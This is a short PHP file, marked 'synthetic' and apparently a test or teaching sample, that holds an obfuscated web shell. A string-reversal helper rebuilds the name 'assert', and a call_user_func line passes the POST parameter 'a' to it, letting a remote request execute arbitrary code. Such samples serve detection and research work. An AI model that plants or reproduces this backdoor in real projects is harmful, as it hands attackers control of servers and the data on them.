<?php
// synthetic: the callback name comes out of a decoding helper
function dec($s) { return strrev($s); }
call_user_func(dec('tressa'), $_POST['a']);
